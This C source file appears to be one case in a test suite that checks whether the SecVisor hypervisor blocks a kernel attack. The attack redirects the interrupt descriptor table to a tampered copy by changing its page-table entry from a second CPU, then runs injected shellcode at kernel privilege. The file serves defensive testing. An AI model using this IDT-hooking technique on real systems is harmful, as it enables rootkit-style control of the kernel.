// Row 10. The page-table entry of the IDT made to name a changed copy by the second CPU, while the first executes user code; then it takes an interrupt.
// Source: threat table; IDT hooking (kad, Phrack 59-4) by the page tables, across CPUs.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <sys/mman.h>

struct plan {
	volatile int spins, done;
	u64 entry, value;
};

static void remap(void *with)
{
	struct plan *plan = with;

	while (!plan->spins)
		;
	poke(plan->entry, plan->value);
	plan->done = 1;
}

ATTACK("idt-remap-other-cpu")
{
	struct plan *plan = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	u64 handler = kernel_page(), copy = kernel_page(), idt = tables().idt, value;
	u8 page[PAGE];
	unsigned shift;
	long result;

	kwrite(handler, "\xb8\x37\x13\0\0\x48\xcf", 7); // mov eax, 0x1337; iretq
	make_executable(handler);
	prepare_entry();
	kread(idt, page, PAGE);
	interrupt_gate(page + 0x81 * 16, handler, 2);
	kwrite(copy, page, PAGE);
	plan->entry = entry_of(idt, &value, &shift);
	if (shift != 12)
		failed("the IDT is mapped by %u bits", shift);
	plan->value = (value & ~FRAME) | physical(copy);
	on_second_cpu(remap, plan);
	about_to("take an interrupt by an IDT that the second CPU exchanges now");
	unprotect();
	plan->spins = 1;
	while (!plan->done)
		;
	flush(idt);
	result = interrupt_prepared();
	if (result == MARK)
		succeeded("INT 81h ran the handler of the second CPU's table at CPL 0");
	failed("INT 81h returned %ld", result);
}
